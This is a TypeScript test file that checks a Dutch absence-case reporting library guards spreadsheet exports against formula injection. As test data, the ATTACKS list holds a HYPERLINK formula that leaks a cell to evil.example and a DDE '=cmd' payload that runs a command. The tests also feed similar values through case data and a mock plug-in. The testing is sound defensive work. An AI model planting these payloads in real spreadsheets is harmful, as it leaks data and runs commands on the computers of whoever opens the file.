import { type Ids, LocalDate } from "@verzuimregie/domain"
import westland from "@verzuimregie/plugin-westland"
import { describe, expect, it } from "vitest"
import { CaseList, Cells, StaffSummary, Workbook } from "../src/index.js"
import { packageText, sheetXml, syntheticHistories } from "./support/cases.js"

const ATTACKS = [
  "=1+1",
  '=HYPERLINK("http://evil.example/?leak="&A1,"klik")',
  "+31 6 1234",
  "-2+3",
  "@SUM(A1:A9)",
  "\t=cmd|' /C calc'!A0",
  "\r=1",
  "  =1+1",
  "\u00a0=1",
  "\uff1d1+1",
  "\uff0b1",
  "\uff0d1",
  "\uff20A1",
  "=",
  "-",
]

describe("formula injection", () => {
  it("prefixes every text that starts like a formula, and only those", () => {
    for (const attack of ATTACKS) expect(Cells.neutralise(attack)).toBe(`'${attack}`)
    for (const safe of [
      "Basisschool De Klimop",
      "case_0123456789",
      "1+1",
      "a=b",
      "'al veilig",
      "",
      "e-mail",
    ]) {
      expect(Cells.neutralise(safe)).toBe(safe)
    }
  })

  it("writes such texts as plain strings, never as formulas, in every text column", () => {
    const builder = new Workbook.SheetBuilder({
      name: "Test",
      columns: [
        { header: "Tekst", kind: "text" },
        { header: "Datum", kind: "date" },
        { header: "Getal", kind: "number" },
        { header: "Ja/nee", kind: "boolean" },
      ],
    })
    // Text in a date, number or boolean column is written as text, and guarded as well.
    for (const attack of ATTACKS) builder.addRow([attack, attack, attack, attack])
    builder.addRow(["gewoon", "2026-03-09", -5, true])
    const file = Workbook.write([builder.finish()])
    const xml = sheetXml(file, 1)
    expect(xml).not.toMatch(/<f[ >]/)
    const sheet = Workbook.read(file).Sheets.Test
    if (sheet === undefined) throw new Error("no sheet")
    ATTACKS.forEach((attack, i) => {
      for (const col of ["A", "B", "C", "D"]) {
        const cell = sheet[`${col}${i + 2}`]
        expect(cell?.t).toBe("s")
        expect(cell?.f).toBeUndefined()
        expect(cell?.v).toBe(`'${attack}`)
      }
    })
    const last = ATTACKS.length + 2
    expect(sheet[`C${last}`]).toMatchObject({ t: "n", v: -5 })
    expect(sheet[`D${last}`]).toMatchObject({ t: "b", v: true })
    expect(sheet[`B${last}`]?.t).toBe("d")
  })

  it("guards values that come from plug-in columns and from case data", () => {
    const on = LocalDate.make("2026-03-09")
    const [first] = syntheticHistories(3, 1, { regionId: "westland", on })
    if (first === undefined) throw new Error("no case")
    const enrolment = first.state.referral.pupil.enrolment
    const state = {
      ...first.state,
      ...(enrolment === undefined
        ? {}
        : {
            referral: {
              ...first.state.referral,
              pupil: {
                ...first.state.referral.pupil,
                enrolment: { ...enrolment, schoolName: '=HYPERLINK("http://x")' },
              },
            },
          }),
      regiehouder: { name: "@evil", role: "smw-verzuim" as const, userId: "user_evilevilevil" as Ids.UserId },
    }
    const evilPlugin = {
      ...westland,
      reports: {
        caseColumns: [
          ...westland.reports.caseColumns,
          { key: "x", header: "Extra", kind: "text" as const, personal: false, value: () => "+1-1" },
        ],
      },
    }
    const list = CaseList.workbook([state], {
      plugin: evilPlugin,
      context: {
        on,
        settings: { firstContactWorkingDays: 5, referrerFeedbackWorkingDays: 5 },
        calendars: [],
      },
      includePersonal: false,
    })
    const summary = StaffSummary.workbook(
      StaffSummary.make({
        region: { id: "westland", name: "Westland" },
        period: { key: "2026-W10", from: LocalDate.make("2025-01-01"), to: on },
        on,
        cases: [state],
        // The summary names people and schools from the registers only: guard those names too.
        registers: {
          userName: (id) => (id === "user_evilevilevil" ? "@evil" : undefined),
          organisationName: () => '=HYPERLINK("http://x")',
        },
      }),
    )
    for (const file of [list, summary]) {
      const text = packageText(file)
      expect(text).not.toMatch(/<f[ >]/)
      expect(text).not.toMatch(/>=HYPERLINK|>@evil|>\+1-1/)
      expect(text).toContain("@evil")
    }
    const listSheet = Workbook.read(list).Sheets[CaseList.SHEET_NAME]
    const values = Object.entries(listSheet ?? {})
      .filter(([k]) => !k.startsWith("!"))
      .map(([, c]) => (c as { v: unknown }).v)
    expect(values).toContain("'+1-1")
    expect(values).toContain("'@evil")
    if (enrolment !== undefined) expect(values).toContain('\'=HYPERLINK("http://x")')
  })
})
